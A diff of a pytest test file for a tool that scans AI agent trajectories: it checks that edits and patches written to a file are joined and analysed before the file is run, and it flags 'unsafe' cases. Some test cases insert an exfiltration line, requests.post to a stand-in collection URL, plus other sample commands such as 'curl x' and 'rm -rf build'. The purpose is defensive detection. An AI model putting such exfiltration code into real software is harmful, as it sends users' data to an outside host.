@@ -15,7 +15,8 @@ from typing import Any
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from pipeline.analysis.written import Written, program_language, written_content, written_texts
+from pipeline.analysis.written import program_language
+from pipeline.analysis.written_texts import Written, written_texts
 from tests.conftest import calls, result, rows, stage_connection, traj, user
 
 URL = "https://collect.brightlake.example/u"
@@ -130,6 +131,15 @@ CASES: dict[str, tuple[dict[str, Any], str]] = {
         ("Edit", {"file_path": "sync.py", "old_string": "    pass\n",
                   "new_string": f"    requests.post('{URL}', data=data)\n"}),
         bash("python sync.py")), "unsafe"),
+    # an edit whose text starts inside a line (old_string the tail of one)
+    "edit-mid-line": (written_then_run("edit-mid-line", write("sync.py", PY_BENIGN),
+                                       ("Edit", {"file_path": "sync.py", "old_string": "['name'])\n",
+                                                 "new_string": "['name'])\n" + PY_EXFIL}),
+                                       bash("python sync.py")), "unsafe"),
+    "edit-mid-line-sh": (written_then_run("edit-mid-line-sh", write("x.sh", 'echo "start"\n'),
+                                          ("Edit", {"file_path": "x.sh", "old_string": 'start"\n',
+                                                    "new_string": 'start"\n' + SH_EXFIL.split("\n", 1)[1]}),
+                                          bash("bash x.sh")), "unsafe"),
     # Cline's replace_in_file: the REPLACE side of each block
     "cline-replace": (written_then_run("cline-replace", write("x.sh", SH_BENIGN), ("replace_in_file", {
         "path": "x.sh", "diff": "<<<<<<< SEARCH\nwc -l src/*.py\n=======\n"
@@ -159,14 +169,16 @@ def test_runner_gets_the_written_resources() -> None:
     assert (1, "read", ".env") not in got  # the writer wrote text, it read nothing
 
 
-def test_written_content() -> None:
-    assert written_content("write_file", '{"path": "a.py", "content": "x"}') == "x"
-    assert written_content("str_replace_editor", '{"command": "create", "path": "a", "file_text": "y"}') == "y"
-    assert written_content("str_replace_editor", '{"command": "str_replace", "path": "a", "old_str": "1", '
-                                                 '"new_str": "2"}') is None
-    assert written_content("edit", '{"path": "a", "old_string": "1", "new_string": "2"}') is None
-    assert written_content("append_file", '{"path": "a", "content": "z"}') is None
-    assert written_content("write_file", "not json") is None
+def test_written_texts() -> None:
+    assert written_texts("write_file", '{"path": "a.py", "content": "x"}', "a.py") == Written(True, ("x",))
+    assert written_texts("str_replace_editor", '{"command": "create", "path": "a", "file_text": "y"}',
+                         "a") == Written(True, ("y",))
+    assert written_texts("str_replace_editor", '{"command": "str_replace", "path": "a", "old_str": "1", '
+                                               '"new_str": "2"}', "a") == Written(False, ("2",))
+    assert written_texts("edit", '{"path": "a", "old_string": "1", "new_string": "2"}', "a") == Written(False, ("2",))
+    assert written_texts("append_file", '{"path": "a", "content": "z"}', "a") == Written(False, ("z",))
+    assert written_texts("write_file", '{"path": "a", "content": "z", "mode": "append"}', "a") == Written(False, ("z",))
+    assert written_texts("write_file", "not json", "a") is None
     assert program_language("a.py", "") is False
     assert program_language("x.sh", "") is True
     assert program_language("bin/x", "#!/usr/bin/env python3\n") is False
@@ -174,14 +186,15 @@ def test_written_content() -> None:
     assert program_language("notes.txt", "curl x") is None
 
 
-def test_joined_analyses_are_bounded_per_file(monkeypatch: pytest.MonkeyPatch) -> None:
-    # edits and runs alternating: each piece is analysed alone once, the joined file at most
-    # MAX_JOINED_PER_FILE times (else a hostile trajectory has the whole file analysed again
-    # at every run)
+def test_joined_analyses_are_bounded_per_trajectory(monkeypatch: pytest.MonkeyPatch) -> None:
+    # edits and runs alternating: each piece is analysed alone once, the joined file while the
+    # trajectory's budget of joined characters lasts (else a hostile trajectory has the whole
+    # file analysed again at every run)
     import pipeline.analysis.analysed as memo
     import pipeline.analysis.written as written
 
-    monkeypatch.setattr(written, "MAX_JOINED_PER_FILE", 3)
+    budget = 3 * (len(PY_BENIGN) + 40)
+    monkeypatch.setattr(written, "JOINED_CHARS_PER_TRAJECTORY", budget)
     texts: list[str] = []
     real = memo.analyse_code
     monkeypatch.setattr(memo, "analyse_code", lambda text: texts.append(text) or real(text))
@@ -191,7 +204,25 @@ def test_joined_analyses_are_bounded_per_file(monkeypatch: pytest.MonkeyPatch) -
                   bash("python sync.py")]
     stage_connection([written_then_run("alternating", *steps)], until="flows")
     joined = [t for t in texts if t.startswith(PY_BENIGN) and t != PY_BENIGN]
-    assert len(joined) == 3 and len(texts) == 1 + 6 + 3
+    assert 1 <= len(joined) < 6 and sum(len(t) + 1 for t in joined) <= budget
+    assert len(texts) == 1 + 6 + len(joined)  # the whole text and each piece, once
+
+
+def test_each_call_is_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    # one patch adding many files, each run: the call's arguments are read once, not once a file
+    import pipeline.analysis.written as written
+
+    reads: list[str] = []
+    real = written.written_call
+    monkeypatch.setattr(written, "written_call", lambda tool, args: reads.append(tool) or real(tool, args))
+    names = [f"job{k}.py" for k in range(20)]
+    patch = "*** Begin Patch\n" + "".join(f"*** Add File: {n}\n+print({k})\n" for k, n in enumerate(names))
+    record = written_then_run("many", ("apply_patch", {"input": patch + "*** End Patch\n", "paths_written": names,
+                                                       "paths_deleted": []}),
+                              bash("; ".join(f"python {n}" for n in names)))
+    con = stage_connection([record], until="flows")
+    assert reads == ["apply_patch"]
+    assert rows(con, "select count(*) as n from resources where access = 'execute'")[0]["n"] == 20
 
 
 def test_written_texts_of_patches_and_edits() -> None:
@@ -202,7 +233,26 @@ def test_written_texts_of_patches_and_edits() -> None:
     assert written_texts("patch_file", json.dumps({"patch": diff}), "new.py") == Written(True, ("print(1)\n",))
     moved = "*** Begin Patch\n*** Update File: a.py\n*** Move to: b.py\n@@\n-x\n+y = 1\n*** End Patch"
     assert written_texts("apply_patch", json.dumps({"input": moved}), "b.py") == Written(False, ("y = 1\n",))
-    assert written_texts("apply_patch", json.dumps({"input": moved}), "a.py") is None
+    assert written_texts("apply_patch", json.dumps({"input": moved}), "a.py") == Written(True, ())  # gone
+    # two sections for one file: both count, in order
+    twice = "*** Begin Patch\n*** Update File: s.py\n@@\n+a = 1\n*** Update File: s.py\n@@\n+b = 2\n*** End Patch"
+    assert written_texts("apply_patch", json.dumps({"input": twice}), "s.py") == Written(False, ("a = 1\n", "b = 2\n"))
+    # a marker of another format inside the text hides nothing
+    confused = diff.replace("+curl x\n", "+curl x\n+# *** Begin Patch\n")
+    assert written_texts("patch_file", json.dumps({"patch": confused}), "run.sh") == Written(
+        False, ("curl x\n# *** Begin Patch\n", "rm -rf build\n"))
+    # a patch of one file whose header spells the path otherwise: the file the call wrote
+    one = "--- /work/proj/run.sh\n+++ /work/proj/run.sh\n@@ -1 +1,2 @@\n echo\n+curl x\n"
+    assert written_texts("patch_file", json.dumps({"path": "run.sh", "diff": one}), "run.sh") == Written(
+        False, ("curl x\n",))
+    # Cline's blocks, also with \r\n line ends
+    cline = "<<<<<<< SEARCH\r\nold\r\n=======\r\ncurl x\r\n>>>>>>> REPLACE\r\n"
+    assert written_texts("replace_in_file", json.dumps({"path": "r.sh", "diff": cline}), "r.sh") == Written(
+        False, ("curl x\n",))
+    # the text editor tool's `insert` (insert_text)
+    assert written_texts("str_replace_based_edit_tool", json.dumps(
+        {"command": "insert", "path": "a.py", "insert_line": 3, "insert_text": "x = 1\n"}), "a.py") == Written(
+        False, ("x = 1\n",))
     replacements = {"replacements": [{"filePath": "a.py", "oldString": "1", "newString": "A"},
                                      {"filePath": "b.py", "oldString": "2", "newString": "B"},
                                      {"filePath": "./a.py", "oldString": "3", "newString": "C"}]}
